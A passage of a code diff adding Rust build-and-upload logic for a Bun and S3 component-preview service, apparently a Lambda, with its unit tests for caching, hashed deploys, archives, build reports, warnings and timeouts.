+        files.push(file_object(&file_path, s3_key, file_content, options));
+    }
+
+    summary.files.sort();
+
+    let heads = try_join_all(
+        files
+            .iter()
+            .map(|object| store.head(bucket_name, &object.key)),
+    )
+    .await?;
+
+    for (object, head) in files.into_iter().zip(heads) {
+        let unchanged = head.is_some_and(|head| {
+            head.etag == etag_of(&object.body) && head.attributes == object.attributes
+        });
+        if unchanged {
+            tracing::info!(key = %object.key, "Skipping unchanged file");
+            summary.skipped += 1;
+            continue;
+        }
+
+        store.put(bucket_name, object).await?;
+        summary.uploaded += 1;
+    }
+
+    Ok(summary)
+}
+
+/// Object, stored next to a component's files, holding the sizes of its most
+/// recent build.
+const SIZES_OBJECT: &str = "_nimbus-sizes.json";
+
+/// Byte sizes of the main bundle's outputs.
+#[derive(Debug, Default, PartialEq, Serialize, Deserialize)]
+struct BundleSizes {
+    js: u64,
+    css: u64,
+}
+
+impl BundleSizes {
+    async fn measure(out_dir: &Path) -> std::io::Result<Self> {
+        let size = |name: &'static str| async move {
+            match fs::metadata(out_dir.join(name)).await {
+                Ok(metadata) => Ok(metadata.len()),
+                Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(0),
+                Err(e) => Err(e),
+            }
+        };
+
+        Ok(Self {
+            js: size("index.js").await?,
+            css: size("index.css").await?,
+        })
+    }
+}
+
+/// Stores `current` as the component's latest sizes and returns how much each
+/// output grew (or shrank) since the previous build, if one was recorded.
+async fn record_sizes<S: ObjectStore>(
+    store: &S,
+    bucket_name: &str,
+    component_id: &str,
+    current: &BundleSizes,
+) -> Result<Option<serde_json::Value>, Error> {
+    let key = format!("{}/{}", component_id, SIZES_OBJECT);
+
+    let previous = store
+        .get(bucket_name, &key)
+        .await?
+        .and_then(|body| serde_json::from_slice::<BundleSizes>(&body).ok());
+
+    store
+        .put(
+            bucket_name,
+            PutObject {
+                key,
+                body: serde_json::to_vec(current)?,
+                content_type: "application/json".to_string(),
+                ..Default::default()
+            },
+        )
+        .await?;
+
+    Ok(previous.map(|previous| {
+        json!({
+            "js": current.js as i64 - previous.js as i64,
+            "css": current.css as i64 - previous.css as i64
+        })
+    }))
+}
+
+/// Build report published under the component, whatever its version.
+const REPORT_FILE: &str = "report.json";
+
+/// How much of each step's output the report keeps: the end, where errors
+/// and summaries are.
+const MAX_REPORT_LOG_BYTES: usize = 16 * 1024;
+
+/// A step's stdout then stderr, keeping only the last
+/// [`MAX_REPORT_LOG_BYTES`].
+fn step_log(output: &Output) -> String {
+    let log = format!(
+        "{}{}",
+        String::from_utf8_lossy(&output.stdout),
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let start = log.len().saturating_sub(MAX_REPORT_LOG_BYTES);
+    let start = (start..log.len())
+        .find(|&at| log.is_char_boundary(at))
+        .unwrap_or(log.len());
+    log[start..].to_string()
+}
+
+/// Versions of the tools that produced a build: Bun's from `--version`, the
+/// rest from the template's installed packages. Any that can't be found are
+/// `null`.
+async fn toolchain_versions(
+    bundler: &(dyn Bundler + Send + Sync),
+    workspace_dir: &Path,
+) -> serde_json::Value {
+    let version = Command::new(bundler.program())
+        .args(bundler.version_args())
+        .output()
+        .await
+        .ok()
+        .filter(|output| output.status.success())
+        .map(|output| String::from_utf8_lossy(&output.stdout).trim().to_string());
+
+    let mut versions = json!({});
+    versions[bundler.tool_name()] = json!(version);
+    for package in ["tailwindcss", "react", "react-dom"] {
+        let manifest = workspace_dir
+            .join("node_modules")
+            .join(package)
+            .join("package.json");
+        let version = fs::read(manifest)
+            .await
+            .ok()
+            .and_then(|contents| serde_json::from_slice::<serde_json::Value>(&contents).ok())
+            .and_then(|package| package["version"].as_str().map(String::from));
+        versions[package] = json!(version);
+    }
+    versions
+}
+
+/// Everything `report.json` summarises about a finished build.
+struct BuildReport<'a> {
+    component_id: &'a str,
+    built_at: &'a str,
+    label: Option<&'a str>,
+    /// Each phase and how long it ran, in order.
+    timings: &'a [(String, Duration)],
+    total: Duration,
+    sizes: &'a BundleSizes,
+    files: &'a [String],
+    toolchain: serde_json::Value,
+    warnings: &'a [String],
+    /// Output of each toolchain step, by step name.
+    logs: &'a [(&'a str, String)],
+}
+
+fn build_report(report: &BuildReport) -> serde_json::Value {
+    let phases: serde_json::Map<String, serde_json::Value> = report
+        .timings
+        .iter()
+        .map(|(phase, duration)| (phase.clone(), json!(duration.as_millis() as u64)))
+        .collect();
+    let logs: Vec<serde_json::Value> = report
+        .logs
+        .iter()
+        .map(|(step, output)| json!({ "step": step, "output": output }))
+        .collect();
+
+    json!({
+        "componentId": report.component_id,
+        "builtAt": report.built_at,
+        "label": report.label,
+        "timings": {
+            "totalMs": report.total.as_millis() as u64,
+            "phasesMs": phases,
+        },
+        "sizes": report.sizes,
+        "files": report.files,
+        "toolchain": report.toolchain,
+        "warnings": report.warnings,
+        "logs": logs,
+    })
+}
+
+/// Uploads `report` as `{component_id}/report.json`.
+async fn publish_report<S: ObjectStore>(
+    store: &S,
+    bucket_name: &str,
+    component_id: &str,
+    report: &serde_json::Value,
+) -> Result<(), Error> {
+    store
+        .put(
+            bucket_name,
+            PutObject {
+                key: format!("{}/{}", component_id, REPORT_FILE),
+                body: serde_json::to_vec_pretty(report)?,
+                content_type: "application/json".to_string(),
+                cache_control: Some(HTML_CACHE_CONTROL.to_string()),
+                ..Default::default()
+            },
+        )
+        .await
+}
+
+/// Object, next to the hashed deploys, naming the current one.
+const DEPLOY_POINTER: &str = "latest.json";
+
+/// Hex digits of the content hash kept in a deploy's prefix.
+const DEPLOY_HASH_LEN: usize = 16;
+
+/// Hash of every file's path and contents under `dir`, identifying a build's
+/// output regardless of when or where it was produced.
+async fn deploy_hash(dir: &Path) -> std::io::Result<String> {
+    let mut files = list_files(dir).await?;
+    files.sort_by(|a, b| a.1.cmp(&b.1));
+
+    let mut hasher = Sha256::new();
+    for (path, relative) in files {
+        let content = fs::read(&path).await?;
+        hasher.update(relative.as_bytes());
+        hasher.update([0u8]);
+        hasher.update((content.len() as u64).to_be_bytes());
+        hasher.update(&content);
+    }
+
+    let mut hash = format!("{:x}", hasher.finalize());
+    hash.truncate(DEPLOY_HASH_LEN);
+    Ok(hash)
+}
+
+/// Uploads `dir` under `{prefix}/{hash}` and only then rewrites
+/// `{prefix}/latest.json` to name it, so readers following the pointer
+/// never see a partial deploy. Returns the hashed prefix.
+async fn publish_immutable<S: ObjectStore>(
+    store: &S,
+    bucket_name: &str,
+    dir: &Path,
+    prefix: &str,
+    options: &UploadOptions,
+) -> Result<(String, UploadSummary), Error> {
+    let hash = deploy_hash(dir).await?;
+    let hashed_prefix = format!("{}/{}", prefix, hash);
+    let summary = upload_dir(store, bucket_name, dir, &hashed_prefix, options).await?;
+
+    store
+        .put(
+            bucket_name,
+            PutObject {
+                key: format!("{}/{}", prefix, DEPLOY_POINTER),
+                body: serde_json::to_vec(&json!({
+                    "deployHash": hash,
+                    "prefix": hashed_prefix,
+                    "files": summary.files,
+                }))?,
+                content_type: "application/json".to_string(),
+                ..Default::default()
+            },
+        )
+        .await?;
+
+    Ok((hashed_prefix, summary))
+}
+
+/// Every file under `dir` with its `/`-separated path relative to `dir`, so
+/// chunks or assets Bun emits into subdirectories keep the relative paths the
+/// bundle imports them by.
+async fn list_files(dir: &Path) -> std::io::Result<Vec<(PathBuf, String)>> {
+    let mut files = Vec::new();
+    let mut pending = vec![(dir.to_path_buf(), String::new())];
+
+    while let Some((current, relative)) = pending.pop() {
+        let mut dir_entries = fs::read_dir(&current).await?;
+        while let Some(entry) = dir_entries.next_entry().await? {
+            let name = entry.file_name().to_string_lossy().into_owned();
+            let relative_path = if relative.is_empty() {
+                name
+            } else {
+                format!("{}/{}", relative, name)
+            };
+
+            if entry.file_type().await?.is_dir() {
+                pending.push((entry.path(), relative_path));
+            } else {
+                files.push((entry.path(), relative_path));
+            }
+        }
+    }
+
+    Ok(files)
+}
+
+/// Zips the contents of `dir`, uploads it as `{prefix}/bundle.zip` and returns
+/// a presigned URL for downloading it.
+async fn publish_archive<S: ObjectStore>(
+    store: &S,
+    bucket_name: &str,
+    dir: &Path,
+    prefix: &str,
+) -> Result<String, Error> {
+    let s3_key = format!("{}/bundle.zip", prefix);
+
+    store
+        .put(
+            bucket_name,
+            PutObject {
+                key: s3_key.clone(),
+                body: zip_dir(dir).await?,
+                content_type: "application/zip".to_string(),
+                ..Default::default()
+            },
+        )
+        .await?;
+
+    store
+        .presign_get(bucket_name, &s3_key, ARCHIVE_URL_TTL)
+        .await
+}
+
+/// Zips every file under `dir` by its path relative to `dir`, so chunks and
+/// fonts in subdirectories keep the paths the bundle and page use. Reading
+/// and compressing run on the blocking pool.
+async fn zip_dir(dir: &Path) -> Result<Vec<u8>, Error> {
+    let mut files = list_files(dir).await?;
+    files.sort_by(|(_, a), (_, b)| a.cmp(b));
+
+    tokio::task::spawn_blocking(move || -> Result<Vec<u8>, Error> {
+        let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
+        for (file_path, relative_path) in files {
+            zip.start_file(relative_path, SimpleFileOptions::default())?;
+            zip.write_all(&std::fs::read(&file_path)?)?;
+        }
+        Ok(zip.finish()?.into_inner())
+    })
+    .await?
+}
+
+/// The object `file_path` is uploaded as, with its attributes digested.
+fn file_object(
+    file_path: &Path,
+    s3_key: String,
+    file_content: Vec<u8>,
+    options: &UploadOptions,
+) -> PutObject {
+    let file_name = file_path
+        .file_name()
+        .and_then(|n| n.to_str())
+        .unwrap_or_default();
+    let content_type = match file_path.extension().and_then(|ext| ext.to_str()) {
+        Some("css") => "text/css",
+        Some("js" | "mjs" | "cjs") => "application/javascript",
+        Some("html") => "text/html",
+        Some("json") => "application/json",
+        Some("ico") => "image/x-icon",
+        Some("png") => "image/png",
+        Some("svg") => "image/svg+xml",
+        _ => font_type(file_name).unwrap_or("application/octet-stream"),
+    }
+    .to_string();
+
+    let mut metadata = options.metadata.clone();
+    if file_path.extension().is_some_and(|ext| ext == "html") {
+        metadata.extend(options.html_metadata.clone());
+    }
+
+    let mut object = PutObject {
+        key: s3_key,
+        checksum_sha256: Some(sha256_of(&file_content)),
+        body: file_content,
+        content_type,
+        tagging: options.tagging.clone(),
+        metadata,
+        cache_control: cache_control_for(file_name, &options.cache_rules),
+        attributes: None,
+    };
+    object.attributes = Some(object.attributes_digest());
+    object
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::cdn::mock::ThrottlingCdn;
+    use crate::storage::mock::MemoryStore;
+    use lambda_http::{Request, RequestExt};
+    use std::collections::HashMap;
+
+    #[tokio::test]
+    async fn test_generic_http_handler() {
+        let request = Request::default();
+
+        let response = function_handler(request).await.unwrap();
+        assert_eq!(response.status(), 200);
+
+        let body_bytes = response.body().to_vec();
+        let body_string = String::from_utf8(body_bytes).unwrap();
+
+        assert_eq!(
+            body_string,
+            "Hello world, this is an AWS Lambda HTTP request"
+        );
+    }
+
+    #[tokio::test]
+    async fn test_http_handler_with_query_string() {
+        let mut query_string_parameters: HashMap<String, String> = HashMap::new();
+        query_string_parameters.insert("name".into(), "nimbus".into());
+
+        let request = Request::default().with_query_string_parameters(query_string_parameters);
+
+        let response = function_handler(request).await.unwrap();
+        assert_eq!(response.status(), 200);
+
+        let body_bytes = response.body().to_vec();
+        let body_string = String::from_utf8(body_bytes).unwrap();
+
+        assert_eq!(
+            body_string,
+            "Hello nimbus, this is an AWS Lambda HTTP request"
+        );
+    }
+
+    #[tokio::test]
+    async fn test_upload_dir_skips_unchanged_files() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("index.js"), "console.log(1)").unwrap();
+        std::fs::write(dir.path().join("index.css"), "body {}").unwrap();
+
+        let store = MemoryStore::default();
+        upload_dir(
+            &store,
+            "bucket",
+            dir.path(),
+            "abc",
+            &UploadOptions::default(),
+        )
+        .await
+        .unwrap();
+        store.puts.lock().unwrap().clear();
+        std::fs::write(dir.path().join("index.css"), "body { margin: 0 }").unwrap();
+
+        let summary = upload_dir(
+            &store,
+            "bucket",
+            dir.path(),
+            "abc",
+            &UploadOptions::default(),
+        )
+        .await
+        .unwrap();
+
+        assert_eq!(
+            summary,
+            UploadSummary {
+                uploaded: 1,
+                skipped: 1,
+                files: vec!["index.css".to_string(), "index.js".to_string()],
+            }
+        );
+        assert_eq!(store.put_keys(), vec!["abc/index.css"]);
+    }
+
+    #[tokio::test]
+    async fn test_upload_dir_reuploads_when_only_attributes_changed() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("index.js"), "console.log(1)").unwrap();
+        std::fs::write(dir.path().join("logo.png"), "png").unwrap();
+
+        let legacy = MemoryStore::default().with_etag("abc/logo.png", &etag_of(b"png"));
+        let summary = upload_dir(
+            &legacy,
+            "bucket",
+            dir.path(),
+            "abc",
+            &UploadOptions::default(),
+        )
+        .await
+        .unwrap();
+        assert_eq!(
+            summary.uploaded, 2,
+            "objects without attributes are rewritten"
+        );
+
+        let store = MemoryStore::default();
+        upload_dir(
+            &store,
+            "bucket",
+            dir.path(),
+            "abc",
+            &UploadOptions::default(),
+        )
+        .await
+        .unwrap();
+        store.puts.lock().unwrap().clear();
+
+        let retagged = UploadOptions {
+            tagging: Some("team=web".to_string()),
+            ..UploadOptions::default()
+        };
+        let summary = upload_dir(&store, "bucket", dir.path(), "abc", &retagged)
+            .await
+            .unwrap();
+
+        assert_eq!(summary.uploaded, 2);
+        assert_eq!(summary.skipped, 0);
+        let put = store.find_put("abc/index.js").unwrap();
+        assert_eq!(put.tagging.as_deref(), Some("team=web"));
+        assert_eq!(put.attributes, Some(put.attributes_digest()));
+    }
+
+    #[tokio::test]
+    async fn test_publish_archive_uploads_zip_and_returns_url() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("index.js"), "console.log(1)").unwrap();
+        std::fs::write(dir.path().join("index.html"), "<html></html>").unwrap();
+        std::fs::create_dir(dir.path().join("fonts")).unwrap();
+        std::fs::write(dir.path().join("fonts/Inter.woff2"), "wOF2").unwrap();
+
+        let store = MemoryStore::default();
+
+        let url = publish_archive(&store, "bucket", dir.path(), "abc")
+            .await
+            .unwrap();
+
+        assert_eq!(url, "https://bucket.presigned.test/abc/bundle.zip");
+        assert_eq!(store.put_keys(), vec!["abc/bundle.zip"]);
+
+        let body = store.put_body("abc/bundle.zip").unwrap();
+        let mut archive = zip::ZipArchive::new(Cursor::new(body)).unwrap();
+        let mut names: Vec<_> = archive.file_names().map(String::from).collect();
+        names.sort();
+        assert_eq!(names, vec!["fonts/Inter.woff2", "index.html", "index.js"]);
+        assert!(archive.by_name("index.js").is_ok());
+        assert!(archive.by_name("fonts/Inter.woff2").is_ok());
+    }
+
+    #[tokio::test]
+    async fn test_build_step_compile_error_is_422() {
+        let mut command = Command::new("sh");
+        command
+            .arg("-c")
+            .arg("echo 'error: Unexpected token' >&2; exit 1");
+
+        let failure = run_build_step("Bun build", &mut command, DEFAULT_BUILD_TIMEOUT)
+            .await
+            .unwrap_err();
+
+        assert_eq!(failure.status, 422);
+        assert!(failure.message.contains("Unexpected token"));
+    }
+
+    #[tokio::test]
+    async fn test_build_step_spawn_failure_is_500() {
+        let mut command = Command::new("/nonexistent/bun");
+
+        let failure = run_build_step("Bun build", &mut command, DEFAULT_BUILD_TIMEOUT)
+            .await
+            .unwrap_err();
+
+        assert_eq!(failure.status, 500);
+        assert!(failure.message.starts_with("Failed to execute Bun build"));
+    }
+
+    fn command_args(command: &Command) -> Vec<String> {
+        command
+            .as_std()
+            .get_args()
+            .map(|arg| arg.to_string_lossy().into_owned())
+            .collect()
+    }
+
+    #[tokio::test]
+    async fn test_prepare_install_writes_lockfile_and_freezes() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join("package.json"),
+            r#"{"dependencies":{"react":"^19.1.0"}}"#,
+        )
+        .unwrap();
+        std::fs::write(dir.path().join("bun.lockb"), "template lockfile").unwrap();
+
+        let dependencies = HashMap::from([("left-pad".to_string(), "1.3.0".to_string())]);
+        let lockfile = r#"{"lockfileVersion": 1}"#;
+
+        let command = prepare_install(
+            Path::new(DEFAULT_BUN_BIN),
+            dir.path(),
+            &dependencies,
+            Some(lockfile),
+        )
+        .await
+        .unwrap();
+
+        assert_eq!(command_args(&command), vec!["install", "--frozen-lockfile"]);
+        assert_eq!(
+            std::fs::read_to_string(dir.path().join("bun.lock")).unwrap(),
+            lockfile
+        );
+        assert!(!dir.path().join("bun.lockb").exists());
+
+        let package: serde_json::Value =
+            serde_json::from_slice(&std::fs::read(dir.path().join("package.json")).unwrap())
+                .unwrap();
+        assert_eq!(package["dependencies"]["left-pad"], "1.3.0");
+        assert_eq!(package["dependencies"]["react"], "^19.1.0");
+    }
+
+    #[tokio::test]
+    async fn test_prepare_install_without_lockfile_is_not_frozen() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("package.json"), "{}").unwrap();
+
+        let dependencies = HashMap::from([("left-pad".to_string(), "1.3.0".to_string())]);
+
+        let command = prepare_install(Path::new(DEFAULT_BUN_BIN), dir.path(), &dependencies, None)
+            .await
+            .unwrap();
+
+        assert_eq!(command_args(&command), vec!["install"]);
+    }
+
+    #[tokio::test]
+    async fn test_oversized_bundle_trips_limit() {
+        let dir = tempfile::tempdir().unwrap();
+        let bundle = dir.path().join("index.js");
+        std::fs::write(&bundle, vec![b'x'; 2048]).unwrap();
+
+        let failure = check_bundle_size(&bundle, 1024).await.unwrap_err();
+        assert_eq!(failure.status, 413);
+        assert_eq!(
+            failure.message,
+            "bundle exceeds size limit: 2048 bytes (allowed 1024 bytes)"
+        );
+
+        assert!(check_bundle_size(&bundle, 4096).await.is_ok());
+    }
+
+    #[tokio::test]
+    async fn test_missing_bucket_reports_clear_error() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("index.js"), "console.log(1)").unwrap();
+
+        let store = MemoryStore::without_bucket();
+
+        let err = upload_dir(
+            &store,
+            "missing-bucket",
+            dir.path(),
+            "abc",
+            &UploadOptions::default(),
+        )
+        .await
+        .unwrap_err();
+        assert_eq!(
+            upload_failure_message(&err),
+            "S3 bucket 'missing-bucket' does not exist; check the S3_BUCKET_NAME configuration"
+        );
+
+        let err = verify_bucket(&store, "missing-bucket").await.unwrap_err();
+        assert!(err.to_string().contains("'missing-bucket' does not exist"));
+        assert!(verify_bucket(&MemoryStore::default(), "bucket")
+            .await
+            .is_ok());
+    }
+
+    #[test]
+    fn test_missing_component_id_is_named() {
+        let err = parse_request_body(br#"{"code": "export default () => null"}"#).unwrap_err();
+
+        assert_eq!(err, "missing required field: component_id");
+    }
+
+    #[test]
+    fn test_missing_code_is_named() {
+        let err = parse_request_body(br#"{"component_id": "abc"}"#).unwrap_err();
+
+        assert_eq!(err, "missing required field: code");
+    }
+
+    #[test]
+    fn test_parse_request_body_accepts_minimal_request() {
+        let data = parse_request_body(br#"{"component_id": "abc", "code": "x"}"#).unwrap();
+
+        assert_eq!(data.component_id, "abc");
+        assert!(data.archive.is_none());
+    }
+
+    #[tokio::test]
+    async fn test_upload_applies_configured_tagging() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("index.js"), "console.log(1)").unwrap();
+
+        let store = MemoryStore::default();
+        let options = UploadOptions {
+            tagging: Some("component_id=abc&environment=staging".to_string()),
+            ..Default::default()
+        };
+
+        upload_dir(&store, "bucket", dir.path(), "abc", &options)
+            .await
+            .unwrap();
+
+        let put = store.find_put("abc/index.js").unwrap();
+        assert_eq!(
+            put.tagging.as_deref(),
+            Some("component_id=abc&environment=staging")
+        );
+    }
+
+    #[tokio::test]
+    async fn test_custom_index_name_flows_to_key_and_urls() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("main.html"), "<html></html>").unwrap();
+
+        let store = MemoryStore::default();
+        upload_dir(
+            &store,
+            "bucket",
+            dir.path(),
+            "abc",
+            &UploadOptions::default(),
+        )
+        .await
+        .unwrap();
+
+        assert_eq!(store.put_keys(), vec!["abc/main.html"]);
+        assert_eq!(
+            store.find_put("abc/main.html").unwrap().content_type,
+            "text/html"
+        );
+        assert_eq!(
+            render_url("abc", "main.html"),
+            "https://abc.preview.runney.cloud/main.html"
+        );
+        assert_eq!(
+            original_url("https://d123.cloudfront.net", "abc", "main.html"),
+            "https://d123.cloudfront.net/abc/main.html"
+        );
+    }
+
+    #[test]
+    fn test_index_name_validation() {
+        assert!(is_valid_index_name("index.html"));
+        assert!(is_valid_index_name("main-v2.html"));
+        assert!(!is_valid_index_name(".html"));
+        assert!(!is_valid_index_name("../index.html"));
+        assert!(!is_valid_index_name("nested/index.html"));
+        assert!(!is_valid_index_name("index.js"));
+    }
+
+    #[tokio::test]
+    async fn test_prebuild_script_is_run_when_defined() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join("package.json"),
+            r#"{"scripts":{"prebuild":"node gen-icons.js","build":"bun build"}}"#,
+        )
+        .unwrap();
+
+        let command = prebuild_command(Path::new(DEFAULT_BUN_BIN), dir.path())
+            .await
+            .unwrap()
+            .unwrap();
+
+        assert_eq!(command.as_std().get_program(), DEFAULT_BUN_BIN);
+        assert_eq!(command_args(&command), vec!["run", "prebuild"]);
+        assert_eq!(command.as_std().get_current_dir(), Some(dir.path()));
+    }
+
+    #[tokio::test]
+    async fn test_prebuild_is_skipped_without_script() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(
+            dir.path().join("package.json"),
+            r#"{"scripts":{"build":"bun build"}}"#,
+        )
+        .unwrap();
+
+        assert!(prebuild_command(Path::new(DEFAULT_BUN_BIN), dir.path())
+            .await
+            .unwrap()
+            .is_none());
+    }
+
+    #[tokio::test]
+    async fn test_write_failure_names_the_file() {
+        let dir = tempfile::tempdir().unwrap();
+        let missing_src = dir.path().join("missing-src");
+
+        let err = write_workspace_file(&missing_src.join("UserComponent.tsx"), "code")
+            .await
+            .unwrap_err();
+        assert!(err
+            .message
+            .starts_with("Failed to write UserComponent.tsx: "));
+
+        let err = write_workspace_file(&missing_src.join("index.tsx"), "entry")
+            .await
+            .unwrap_err();
+        assert!(err.message.starts_with("Failed to write index.tsx: "));
+    }
+
+    #[test]
+    fn test_result_event_carries_render_url() {
+        let body = json!({ "renderUrl": render_url("abc", DEFAULT_INDEX_NAME) });
+        let response = Response::builder()
+            .status(200)
+            .body(Body::from(body.to_string()))
+            .unwrap();
+
+        let event = result_event(&response);
+
+        assert_eq!(event["phase"], "result");
+        assert_eq!(event["status"], 200);
+        assert_eq!(
+            event["body"]["renderUrl"],
+            "https://abc.preview.runney.cloud/index.html"
+        );
+    }
+
+    #[test]
+    fn test_result_event_keeps_plain_text_errors() {
+        let response = error_response(422, "Bun build failed: oops".to_string()).unwrap();
+
+        let event = result_event(&response);
+
+        assert_eq!(event["status"], 422);
+        assert_eq!(event["body"], "Bun build failed: oops");
+    }
+
+    #[tokio::test]
+    async fn test_warnings_fail_build_when_requested() {
+        let mut command = Command::new("sh");
+        command
+            .arg("-c")
+            .arg("echo 'warn: Unused import React' >&2; echo 'Bundled 3 modules' >&2");
+
+        let output = run_build_step("Bun build", &mut command, DEFAULT_BUILD_TIMEOUT)
+            .await
+            .unwrap();
+
+        let failure = check_warnings("Bun build", &output, true).unwrap_err();
+        assert_eq!(failure.status, 422);
+        assert_eq!(
+            failure.message,
+            "Bun build emitted warnings:\nwarn: Unused import React"
+        );
+
+        let warnings = check_warnings("Bun build", &output, false).unwrap();
+        assert_eq!(warnings, vec!["warn: Unused import React"]);
+    }
+
+    fn request_with_content_type(content_type: &str) -> Request {
+        let mut request = Request::default();
+        request
+            .headers_mut()
+            .insert(CONTENT_TYPE, content_type.parse().unwrap());
+        request
+    }
+
+    #[tokio::test]
+    async fn test_non_json_content_type_is_415() {
+        let request = request_with_content_type("text/plain");
+
+        let s3 = SharedStore::new(MemoryConnector::default());
+        let response = build_component(request, &Progress::default(), &config_with(&[]), &s3)
+            .await
+            .unwrap();
+
+        assert_eq!(response.status(), 415);
+        assert_eq!(response.body().to_vec(), b"expected application/json");
+    }
+
+    #[test]
+    fn test_json_and_missing_content_types_are_accepted() {
+        assert!(accepts_content_type(&Request::default()));
+        assert!(accepts_content_type(&request_with_content_type(
+            "application/json; charset=utf-8"
+        )));
+        assert!(!accepts_content_type(&request_with_content_type(
+            "application/x-www-form-urlencoded"
+        )));
+    }
+
+    #[tokio::test]
+    async fn test_entries_produce_separate_pages() {
+        let dir = tempfile::tempdir().unwrap();
+        let entries = vec![
+            NamedEntry {
+                name: "Button".to_string(),
+                import_path: "./components/Button".to_string(),
+            },
+            NamedEntry {
+                name: "Card".to_string(),
+                import_path: "./components/Card".to_string(),
+            },
+        ];
+
+        write_entry_pages(dir.path(), &entries, &HtmlOptions::default())
+            .await
+            .unwrap();
+
+        let store = MemoryStore::default();
+        upload_dir(
+            &store,
+            "bucket",
+            dir.path(),
+            "abc",
+            &UploadOptions::default(),
+        )
+        .await
+        .unwrap();
+
+        assert_eq!(store.put_keys(), vec!["abc/Button.html", "abc/Card.html"]);
+
+        let button = String::from_utf8(store.put_body("abc/Button.html").unwrap()).unwrap();
+        assert!(button.contains(r#"src="./Button.js""#));
+        let card = String::from_utf8(store.put_body("abc/Card.html").unwrap()).unwrap();
+        assert!(card.contains(r#"src="./Card.js""#));
+    }
+
+    #[test]
+    fn test_dotted_bucket_origin_is_path_style() {
+        let origin = origin_url(None, "previews.example.com", "eu-west-1");
+        assert_eq!(
+            origin,
+            "https://s3.eu-west-1.amazonaws.com/previews.example.com"
+        );
+        assert_eq!(
+            original_url(&origin, "abc", "index.html"),
+            "https://s3.eu-west-1.amazonaws.com/previews.example.com/abc/index.html"
+        );
+        assert_eq!(
+            origin_url(
+                Some("d123.cloudfront.net"),
+                "previews.example.com",
+                "eu-west-1"
+            ),
+            "https://d123.cloudfront.net"
+        );
+    }
+
+    #[test]
+    fn test_origin_without_cloudfront_uses_s3() {
+        let origin = origin_url(None, "previews", "eu-west-1");
+
+        assert_eq!(origin, "https://previews.s3.eu-west-1.amazonaws.com");
+        assert_eq!(
+            original_url(&origin, "abc", DEFAULT_INDEX_NAME),
+            "https://previews.s3.eu-west-1.amazonaws.com/abc/index.html"
+        );
+    }
+
+    #[test]
+    fn test_origin_normalizes_cloudfront_domain() {
+        assert_eq!(
+            origin_url(
+                Some("https://d123.cloudfront.net/"),
+                "previews",
+                "eu-west-1"
+            ),
+            "https://d123.cloudfront.net"
+        );
+        assert_eq!(
+            origin_url(Some("d123.cloudfront.net"), "previews", "eu-west-1"),
+            "https://d123.cloudfront.net"
+        );
+    }
+
+    /// Whether `pid` is still a live (non-zombie) process.
+    #[cfg(target_os = "linux")]
+    fn is_running(pid: u32) -> bool {
+        std::fs::read_to_string(format!("/proc/{}/stat", pid))
+            .ok()
+            .and_then(|stat| {
+                // The state follows the parenthesised command name.
+                let after_name = &stat[stat.rfind(')')? + 1..];
+                after_name
+                    .split_whitespace()
+                    .next()
+                    .map(|state| state != "Z")
+            })
+            .unwrap_or(false)
+    }
+
+    #[cfg(target_os = "linux")]
+    #[tokio::test]
+    async fn test_timeout_kills_the_whole_process_group() {
+        let dir = tempfile::tempdir().unwrap();
+        let pid_file = dir.path().join("grandchild.pid");
+
+        let mut command = Command::new("sh");
+        command
+            .arg("-c")
+            .arg(format!("sleep 30 & echo $! > {}; wait", pid_file.display()));
+
+        let failure = run_build_step("Bun build", &mut command, Duration::from_millis(500))
+            .await
+            .unwrap_err();
+        assert_eq!(failure.status, 504);
+        assert!(failure.message.starts_with("Bun build timed out"));
+
+        let grandchild: u32 = std::fs::read_to_string(&pid_file)
+            .unwrap()
+            .trim()
+            .parse()
+            .unwrap();
+
+        for _ in 0..50 {
+            if !is_running(grandchild) {
+                return;
+            }
+            tokio::time::sleep(Duration::from_millis(20)).await;
+        }
+        panic!("grandchild {} survived the timeout", grandchild);
+    }
+
+    #[tokio::test]
+    async fn test_head_for_missing_component_is_404() {
+        let store = MemoryStore::default().with_etag("published/index.html", "abc123");
+
+        let missing = component_exists_response(&store, "bucket", "missing")
+            .await
+            .unwrap();
+        assert_eq!(missing.status(), 404);
+        assert!(missing.body().is_empty());
+
+        let present = component_exists_response(&store, "bucket", "published")
+            .await
+            .unwrap();
+        assert_eq!(present.status(), 200);
+        assert!(store.put_keys().is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_upload_sets_build_metadata() {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::write(dir.path().join("index.js"), "console.log(1)").unwrap();
+
+        let store = MemoryStore::default();
+        let options = UploadOptions {
+            metadata: BTreeMap::from([
+                ("component-id".to_string(), "abc".to_string()),
+                ("built-at".to_string(), "2026-01-02T03:04:05Z".to_string()),
+            ]),
+            ..Default::default()
+        };
+
+        upload_dir(&store, "bucket", dir.path(), "abc", &options)
+            .await
+            .unwrap();
+
+        let put = store.find_put("abc/index.js").unwrap();
+        assert_eq!(put.metadata["component-id"], "abc");
+        assert_eq!(put.metadata["built-at"], "2026-01-02T03:04:05Z");
+    }
+
+    #[tokio::test]
+    async fn test_warnings_are_flagged_in_response() {
+        let mut command = Command::new("sh");
+        command
+            .arg("-c")
+            .arg("echo 'warn: Browserslist: caniuse-lite is outdated' >&2; exit 0");
+
+        let output = run_build_step("Tailwind build", &mut command, DEFAULT_BUILD_TIMEOUT)
+            .await
+            .unwrap();
+        let warnings = check_warnings("Tailwind build", &output, false).unwrap();
+
+        let mut response_body = json!({});
+        add_warnings(&mut response_body, &warnings);
+
+        assert_eq!(response_body["hasWarnings"], true);
+        assert_eq!(
+            response_body["warnings"],
+            json!(["warn: Browserslist: caniuse-lite is outdated"])
+        );
+
+        let mut clean = json!({});
+        add_warnings(&mut clean, &[]);
